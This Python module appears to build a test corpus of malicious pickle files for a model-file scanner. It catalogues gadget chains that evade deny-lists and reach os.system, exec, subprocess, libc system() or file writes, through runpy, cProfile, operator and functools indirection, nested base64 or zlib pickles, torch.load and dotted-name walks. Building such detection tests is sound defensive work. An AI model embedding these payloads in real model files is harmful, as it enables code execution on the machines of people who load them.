"""Gadget pickles: standard-library and ML-library callables that deny-lists have missed.

Each row mirrors a public advisory family ("missing detection when calling ..." against
picklescan/modelscan/fickling): code runners (runpy, code, timeit, profile, trace, pdb,
idlelib), file writers (io, shutil, distutils, sqlite3, venv, zipfile), process spawners
(asyncio, ctypes, multiprocessing.util, pty), indirection (operator, functools, importlib,
pkgutil, sys.modules, logging.config), nested loaders (pickle, torch, numpy, lib2to3) and
dotted-name walks that reach ``os.system`` from an innocent module.
"""

from __future__ import annotations

import base64
import io
import marshal
import os
import zlib
from collections.abc import Callable

from tests.corpus._spec import NESTED, PKL_ANY, Marker, Payload, Spec, mal
from tests.corpus.pickle_ops import Asm

NESTED_ANY = NESTED | PKL_ANY
Make = Callable[[Marker], bytes]


def inner_pickle(m: Marker) -> bytes:
    """The malicious pickle that nested loaders are handed."""
    return Asm().proto(2).call("os", "system", m.shell).stop().bytes()


def _one(module: str, name: str, *args: object, proto: int = 2) -> Make:
    """A writer for ``module.name(*args)`` where ``args`` may use the marker via callables."""

    def make(m: Marker) -> bytes:
        values = tuple(a(m) if callable(a) else a for a in args)
        a = Asm().proto(proto)
        return a.call(module, name, *values, stack=proto >= 4).stop().bytes()

    return make


def _method(module: str, cls: str, meth: str, ctor: tuple[object, ...], arg: object) -> Make:
    """``module.cls.meth(module.cls(*ctor), arg(m))`` through a protocol-4 dotted name."""

    def make(m: Marker) -> bytes:
        a = Asm().proto(4).stack_global_of(module, f"{cls}.{meth}")
        a.call(module, cls, *ctor, stack=True)
        return a.push(arg(m) if callable(arg) else arg).tuple_(2).reduce().stop().bytes()

    return make


def _eval_expr(m: Marker) -> str:
    return f"__import__('os').system({m.shell!r})"


def _shell(m: Marker) -> str:
    return m.shell


def _py(m: Marker) -> str:
    return m.py


def _path(m: Marker) -> str:
    return m.path


def _argv(m: Marker) -> list[str]:
    return m.argv


def _timeit(m: Marker) -> bytes:
    a = Asm().proto(2).global_("timeit", "timeit").mark().str_("pass").str_(m.py)
    return a.global_("time", "perf_counter").int_(1).tuple_().reduce().stop().bytes()


def _asyncio(m: Marker) -> bytes:
    a = Asm().proto(2).global_("asyncio", "run")
    return a.call("asyncio", "create_subprocess_shell", m.shell).tuple_(1).reduce().stop().bytes()


def _ctypes(m: Marker) -> bytes:
    a = Asm().proto(2).call("operator", "attrgetter", "system")
    a.call("ctypes", "CDLL", None).tuple_(1).reduce()
    return a.push((m.shell.encode(),)).reduce().stop().bytes()


def _methodcaller_import(m: Marker) -> bytes:
    a = Asm().proto(2).call("operator", "methodcaller", "system", m.shell)
    return a.call("importlib", "import_module", "os").tuple_(1).reduce().stop().bytes()


def _attrgetter_sys_modules(m: Marker) -> bytes:
    a = Asm().proto(2).call("_operator", "attrgetter", "system")
    a.call("_operator", "itemgetter", "os").global_("sys", "modules").tuple_(1).reduce()
    return a.tuple_(1).reduce().push((m.shell,)).reduce().stop().bytes()


def _partial(m: Marker) -> bytes:
    a = Asm().proto(2).global_("functools", "partial").global_("os", "system")
    return a.str_(m.shell).tuple_(2).reduce().push(()).reduce().stop().bytes()


def _function_type_compile(m: Marker) -> bytes:
    a = Asm().proto(2).global_("types", "FunctionType")
    a.call("builtins", "compile", m.py, "<p>", "exec").empty_dict().tuple_(2).reduce()
    return a.push(()).reduce().stop().bytes()


def _function_type_marshal(m: Marker) -> bytes:
    code = marshal.dumps(compile(m.py, "<p>", "exec"))
    a = Asm().proto(2).global_("types", "FunctionType")
    a.call("marshal", "loads", code).empty_dict().tuple_(2).reduce()
    return a.push(()).reduce().stop().bytes()


def _sys_modules_alias(m: Marker) -> bytes:
    # sys.modules['model_utils'] = os.path (posixpath), then 'model_utils' + 'os.system'.
    a = Asm().proto(4).global_("sys", "modules").str_("model_utils").global_("os", "path")
    a.setitem().pop().stack_global_of("model_utils", "os.system")
    return a.push((m.shell,)).reduce().stop().bytes()


def _resolve_name(m: Marker) -> bytes:
    a = Asm().proto(2).call("pkgutil", "resolve_name", "os:system")
    return a.push((m.shell,)).reduce().stop().bytes()


def _setattr(m: Marker) -> bytes:
    a = Asm().proto(2).global_("builtins", "setattr")
    a.call("importlib", "import_module", "json").str_("loads").global_("builtins", "eval")
    return a.tuple_(3).reduce().stop().bytes()


def _dict_config(m: Marker) -> bytes:
    config = {
        "version": 1,
        "filters": {"f": {"()": "subprocess.getoutput", "cmd": m.shell}},
    }
    return Asm().proto(2).call("logging.config", "dictConfig", config).stop().bytes()


def _spawnv(m: Marker) -> bytes:
    args: tuple[object, ...] = (b"/bin/sh", ["sh", "-c", m.shell], [])
    return Asm().proto(3).call("multiprocessing.util", "spawnv_passfds", *args).stop().bytes()


def _torch_from_bytes(m: Marker) -> bytes:
    return Asm().proto(2).call("torch.storage", "_load_from_bytes", inner_pickle(m)).stop().bytes()


def _torch_load_partial(m: Marker) -> bytes:
    # partial(torch.load) whose BUILD state adds weights_only=False, called on a BytesIO.
    a = Asm().proto(2).global_("functools", "partial").global_("torch", "load").tuple_(1).reduce()
    a.mark().global_("torch", "load").push(()).push({"weights_only": False}).none().tuple_()
    a.build().call("_io", "BytesIO", inner_pickle(m)).tuple_(1).reduce()
    return a.stop().bytes()


def _nested(module: str, name: str) -> Make:
    return lambda m: Asm().proto(2).call(module, name, inner_pickle(m)).stop().bytes()


def _b64_nested(m: Marker) -> bytes:
    a = Asm().proto(2).global_("pickle", "loads")
    a.call("base64", "b64decode", base64.b64encode(inner_pickle(m)).decode())
    return a.tuple_(1).reduce().stop().bytes()


def _zlib_nested(m: Marker) -> bytes:
    a = Asm().proto(2).global_("pickle", "loads")
    a.call("zlib", "decompress", zlib.compress(inner_pickle(m)))
    return a.tuple_(1).reduce().stop().bytes()


def _numpy_nested(m: Marker) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([Payload(os.system, m.shell)], dtype=object), allow_pickle=True)
    a = Asm().proto(2).global_("numpy", "load")
    a.call("_io", "BytesIO", buf.getvalue()).none().bool_(True).tuple_(3).reduce()
    return a.stop().bytes()


def _dotted(module: str, name: str, *, text_global: bool = False, py: bool = False) -> Make:
    def make(m: Marker) -> bytes:
        a = Asm().proto(4)
        if text_global:
            a.global_(module, name)
        else:
            a.stack_global_of(module, name)
        return a.push((m.py if py else m.shell,)).reduce().stop().bytes()

    return make


def _torch_dotted_loads(m: Marker) -> bytes:
    a = Asm().proto(4).stack_global_of("torch", "serialization.pickle.loads")
    return a.push((inner_pickle(m),)).reduce().stop().bytes()


# (relpath, family, rules, note, writer, loader, needs, quick)
_ROWS: list[tuple[str, str, frozenset[str], str, Make, str, tuple[str, ...], bool]] = [
    (
        "runpy_run_code.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "runpy._run_code(source, {})",
        _one("runpy", "_run_code", _py, {}),
        "pickle",
        (),
        True,
    ),
    (
        "runpy_run_path.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "runpy.run_path(file) (not run)",
        _one("runpy", "run_path", "/nonexistent/payload.py"),
        "",
        (),
        False,
    ),
    (
        "code_interactive_runsource.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "code.InteractiveInterpreter().runsource(source) via a dotted method name",
        _method("code", "InteractiveInterpreter", "runsource", (), _py),
        "pickle",
        (),
        False,
    ),
    (
        "pydoc_pipepager.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "pydoc.pipepager(text, shell cmd)",
        _one("pydoc", "pipepager", "x", _shell),
        "pickle",
        (),
        False,
    ),
    (
        "timeit_setup.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "timeit.timeit('pass', setup=source)",
        _timeit,
        "pickle",
        (),
        True,
    ),
    (
        "cprofile_run.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "cProfile.run(source)",
        _one("cProfile", "run", _py),
        "pickle",
        (),
        False,
    ),
    (
        "cprofile_runctx.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "cProfile.runctx(source, {}, {})",
        _one("cProfile", "runctx", _py, {}, {}),
        "pickle",
        (),
        False,
    ),
    (
        "profile_profile_run.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "profile.Profile().run(source)",
        _method("profile", "Profile", "run", (), _py),
        "pickle",
        (),
        False,
    ),
    (
        "trace_trace_run.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "trace.Trace(0, 0).run(source)",
        _method("trace", "Trace", "run", (0, 0), _py),
        "pickle",
        (),
        False,
    ),
    (
        "pdb_run.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "pdb.run(source) (interactive: not run)",
        _one("pdb", "run", _py),
        "",
        (),
        False,
    ),
    (
        "bdb_run.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "bdb.Bdb().run(source) (not run)",
        _method("bdb", "Bdb", "run", (), _py),
        "",
        (),
        False,
    ),
    (
        "doctest_debug_script.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "doctest.debug_script (not run)",
        _one("doctest", "debug_script", _py),
        "",
        (),
        False,
    ),
    (
        "idlelib_get_entity.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "idlelib.autocomplete.AutoComplete().get_entity(expr) evals",
        _method("idlelib.autocomplete", "AutoComplete", "get_entity", (), _eval_expr),
        "pickle",
        (),
        False,
    ),
    (
        "numpy_runstring.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "numpy.testing._private.utils.runstring(source, {}) execs",
        _one("numpy.testing._private.utils", "runstring", _py, {}),
        "pickle",
        ("numpy",),
        True,
    ),
    (
        "numpy_f2py_eval_scalar.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "numpy.f2py.crackfortran._eval_scalar(expr, {}) evals",
        _one("numpy.f2py.crackfortran", "_eval_scalar", _eval_expr, {}),
        "pickle",
        ("numpy",),
        False,
    ),
    (
        "torch_bottleneck_run_cprofile.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "torch.utils.bottleneck.__main__.run_cprofile (older torch; not run)",
        _one("torch.utils.bottleneck.__main__", "run_cprofile", _py, {}),
        "",
        (),
        False,
    ),
    (
        "xxsubinterpreters_run_string.pkl",
        "gadget-code-runner",
        PKL_ANY,
        "_xxsubinterpreters.run_string (GHSA-6ggj family; not run)",
        _one("_xxsubinterpreters", "run_string", 0, _py),
        "",
        (),
        False,
    ),
    (
        "io_open.pkl",
        "gadget-file-write",
        PKL_ANY,
        "_io.open(path, 'w')",
        _one("_io", "open", _path, "w"),
        "pickle",
        (),
        False,
    ),
    (
        "io_fileio.pkl",
        "gadget-file-write",
        PKL_ANY,
        "io.FileIO(path, 'w')",
        _one("io", "FileIO", _path, "w"),
        "pickle",
        (),
        True,
    ),
    (
        "shutil_copyfile.pkl",
        "gadget-file-write",
        PKL_ANY,
        "shutil.copyfile('/dev/null', path)",
        _one("shutil", "copyfile", "/dev/null", _path),
        "pickle",
        (),
        False,
    ),
    (
        "shutil_rmtree.pkl",
        "gadget-file-write",
        PKL_ANY,
        "shutil.rmtree(missing dir, ignore_errors=True) (destructive family; harmless here)",
        _one("shutil", "rmtree", "/nonexistent/mlwarden-corpus", True),
        "",
        (),
        False,
    ),
    (
        "distutils_write_file.pkl",
        "gadget-file-write",
        PKL_ANY,
        "distutils.file_util.write_file(path, lines)",
        _one("distutils.file_util", "write_file", _path, ["x"]),
        "pickle",
        (),
        False,
    ),
    (
        "sqlite3_connect.pkl",
        "gadget-file-write",
        PKL_ANY,
        "sqlite3.connect(path) creates it",
        _one("sqlite3", "connect", _path),
        "pickle",
        (),
        False,
    ),
    (
        "venv_create.pkl",
        "gadget-file-write",
        PKL_ANY,
        "venv.create(path) creates a directory",
        _one("venv", "create", _path),
        "pickle",
        (),
        False,
    ),
    (
        "zipfile_write.pkl",
        "gadget-file-write",
        PKL_ANY,
        "zipfile.ZipFile(path, 'w') creates it",
        _one("zipfile", "ZipFile", _path, "w"),
        "pickle",
        (),
        False,
    ),
    (
        "asyncio_subprocess_shell.pkl",
        "gadget-process",
        PKL_ANY,
        "asyncio.run(asyncio.create_subprocess_shell(cmd)) (CVE-2025-10157 family)",
        _asyncio,
        "pickle",
        (),
        True,
    ),
    (
        "ctypes_libc_system.pkl",
        "gadget-process",
        PKL_ANY,
        "attrgetter('system')(ctypes.CDLL(None))(cmd): libc system()",
        _ctypes,
        "pickle",
        (),
        False,
    ),
    (
        "multiprocessing_spawnv_passfds.pkl",
        "gadget-process",
        PKL_ANY,
        "multiprocessing.util.spawnv_passfds('/bin/sh', argv, []): submodule of a safe package",
        _spawnv,
        "pickle",
        (),
        False,
    ),
    (
        "distutils_spawn.pkl",
        "gadget-process",
        PKL_ANY,
        "distutils.spawn.spawn(argv)",
        _one("distutils.spawn", "spawn", _argv),
        "pickle",
        (),
        False,
    ),
    (
        "pty_spawn.pkl",
        "gadget-process",
        PKL_ANY,
        "pty.spawn(argv) (not run)",
        _one("pty", "spawn", _argv),
        "",
        (),
        False,
    ),
    (
        "pip_main.pkl",
        "gadget-process",
        PKL_ANY,
        "pip.main(args) (CVE-2025-1716; not run)",
        _one("pip", "main", ["--version"]),
        "",
        (),
        False,
    ),
    (
        "ensurepip_run_pip.pkl",
        "gadget-process",
        PKL_ANY,
        "ensurepip._run_pip (not run)",
        _one("ensurepip", "_run_pip", ["--version"]),
        "",
        (),
        False,
    ),
    (
        "webbrowser_open.pkl",
        "gadget-network",
        PKL_ANY,
        "webbrowser.open(url) (not run)",
        _one("webbrowser", "open", "about:blank"),
        "",
        (),
        False,
    ),
    (
        "urllib_urlopen.pkl",
        "gadget-network",
        PKL_ANY,
        "urllib.request.urlopen (not run)",
        _one("urllib.request", "urlopen", "http://127.0.0.1:9/x"),
        "",
        (),
        False,
    ),
    (
        "socket_create_connection.pkl",
        "gadget-network",
        PKL_ANY,
        "socket.create_connection (not run)",
        _one("socket", "create_connection", ("127.0.0.1", 9)),
        "",
        (),
        False,
    ),
    (
        "operator_methodcaller_import_module.pkl",
        "gadget-indirection",
        PKL_ANY,
        "methodcaller('system', cmd)(importlib.import_module('os'))",
        _methodcaller_import,
        "pickle",
        (),
        True,
    ),
    (
        "operator_attrgetter_sys_modules.pkl",
        "gadget-indirection",
        PKL_ANY,
        "_operator.attrgetter('system')(itemgetter('os')(sys.modules))(cmd)",
        _attrgetter_sys_modules,
        "pickle",
        (),
        False,
    ),
    (
        "functools_partial_system.pkl",
        "gadget-indirection",
        PKL_ANY,
        "functools.partial(os.system, cmd)()",
        _partial,
        "pickle",
        (),
        False,
    ),
    (
        "pkgutil_resolve_name.pkl",
        "gadget-indirection",
        PKL_ANY,
        "pkgutil.resolve_name('os:system')(cmd) (GHSA-vvpj-8cmc-gx39 universal bypass)",
        _resolve_name,
        "pickle",
        (),
        True,
    ),
    (
        "sys_modules_alias.pkl",
        "gadget-indirection",
        PKL_ANY,
        "sys.modules['model_utils'] = os.path; then STACK_GLOBAL model_utils os.system",
        _sys_modules_alias,
        "pickle",
        (),
        False,
    ),
    (
        "builtins_setattr.pkl",
        "gadget-indirection",
        PKL_ANY,
        "setattr(json, 'loads', eval): hijacks the loading process (no marker)",
        _setattr,
        "",
        (),
        False,
    ),
    (
        "logging_dictconfig.pkl",
        "gadget-indirection",
        PKL_ANY,
        "logging.config.dictConfig with a '()' factory naming subprocess.getoutput",
        _dict_config,
        "pickle",
        (),
        False,
    ),
    (
        "copyreg_reconstructor_popen.pkl",
        "gadget-indirection",
        PKL_ANY,
        "copyreg._reconstructor(Popen, Popen, argv) calls Popen.__init__",
        lambda m: (
            Asm()
            .proto(2)
            .global_("copyreg", "_reconstructor")
            .mark()
            .global_("subprocess", "Popen")
            .global_("subprocess", "Popen")
            .push(m.argv)
            .tuple_()
            .reduce()
            .stop()
            .bytes()
        ),
        "pickle",
        (),
        False,
    ),
    (
        "types_functiontype_compile.pkl",
        "gadget-code-object",
        PKL_ANY,
        "types.FunctionType(compile(source), {})()",
        _function_type_compile,
        "pickle",
        (),
        False,
    ),
    (
        "types_functiontype_marshal.pkl",
        "gadget-code-object",
        PKL_ANY,
        "types.FunctionType(marshal.loads(code), {})()",
        _function_type_marshal,
        "pickle",
        (),
        True,
    ),
    (
        "pickle_loads.pkl",
        "nested-loader",
        NESTED_ANY,
        "pickle.loads(inner malicious pickle)",
        _nested("pickle", "loads"),
        "pickle",
        (),
        True,
    ),
    (
        "_pickle_loads.pkl",
        "nested-loader",
        NESTED_ANY,
        "_pickle.loads(inner)",
        _nested("_pickle", "loads"),
        "pickle",
        (),
        False,
    ),
    (
        "pickle_loads_base64.pkl",
        "nested-loader",
        NESTED_ANY,
        "pickle.loads(base64.b64decode(text)): inner pickle hidden in base64",
        _b64_nested,
        "pickle",
        (),
        False,
    ),
    (
        "pickle_loads_zlib.pkl",
        "nested-loader",
        NESTED_ANY,
        "pickle.loads(zlib.decompress(bytes)): inner pickle compressed",
        _zlib_nested,
        "pickle",
        (),
        False,
    ),
    (
        "dill_loads.pkl",
        "nested-loader",
        NESTED_ANY,
        "dill.loads(inner) (not run: no dill)",
        _nested("dill", "loads"),
        "",
        (),
        False,
    ),
    (
        "lib2to3_grammar_loads.pkl",
        "nested-loader",
        NESTED_ANY,
        "lib2to3.pgen2.grammar.Grammar().loads(inner) (picklescan GHSA-f54q)",
        _method("lib2to3.pgen2.grammar", "Grammar", "loads", (), inner_pickle),
        "pickle",
        (),
        False,
    ),
    (
        "numpy_load_nested.pkl",
        "nested-loader",
        NESTED_ANY,
        "numpy.load(BytesIO(npy object array), None, True)",
        _numpy_nested,
        "pickle",
        ("numpy",),
        False,
    ),
    (
        "torch_load_from_bytes.pkl",
        "nested-loader",
        NESTED_ANY,
        "torch.storage._load_from_bytes(inner): torch.load(weights_only=False) inside",
        _torch_from_bytes,
        "pickle",
        ("torch",),
        True,
    ),
    (
        "torch_load_partial_kwargs.pkl",
        "nested-loader",
        NESTED_ANY,
        "partial(torch.load) given weights_only=False through BUILD state, on a BytesIO",
        _torch_load_partial,
        "pickle",
        ("torch",),
        False,
    ),
    (
        "dotted_os_path_os_system.pkl",
        "dotted-name",
        PKL_ANY,
        "STACK_GLOBAL 'os' 'path.os.system': protocol-4 attribute walk",
        _dotted("os", "path.os.system"),
        "pickle",
        (),
        True,
    ),
    (
        "dotted_global_opcode_p4.pkl",
        "dotted-name",
        PKL_ANY,
        "text GLOBAL 'os' 'path.os.system' inside a protocol-4 stream",
        _dotted("os", "path.os.system", text_global=True),
        "pickle",
        (),
        False,
    ),
    (
        "dotted_module_os_path.pkl",
        "dotted-name",
        PKL_ANY,
        "module 'os.path' (a submodule) with name 'os.system'",
        _dotted("os.path", "os.system"),
        "pickle",
        (),
        False,
    ),
    (
        "dotted_numpy_testing_os_system.pkl",
        "dotted-name",
        PKL_ANY,
        "'numpy' 'testing._private.utils.os.system': innocent package, dangerous leaf",
        _dotted("numpy", "testing._private.utils.os.system"),
        "pickle",
        ("numpy",),
        False,
    ),
    (
        "dotted_print_self_exec.pkl",
        "dotted-name",
        PKL_ANY,
        "'builtins' 'print.__self__.exec': builtins.exec reached through a bound method",
        _dotted("builtins", "print.__self__.exec", py=True),
        "pickle",
        (),
        False,
    ),
    (
        "dotted_torch_serialization_pickle_loads.pkl",
        "dotted-name",
        NESTED_ANY,
        "'torch' 'serialization.pickle.loads' with an inner malicious pickle",
        _torch_dotted_loads,
        "pickle",
        ("torch",),
        False,
    ),
]


def gadget_specs() -> list[Spec]:
    """Specs for every gadget row (file names under ``malicious/gadgets/``)."""
    return [
        mal(f"gadgets/{rel}", fam, rules, note, make, loader=loader, needs=needs, quick=quick)
        for rel, fam, rules, note, make, loader, needs, quick in _ROWS
    ]
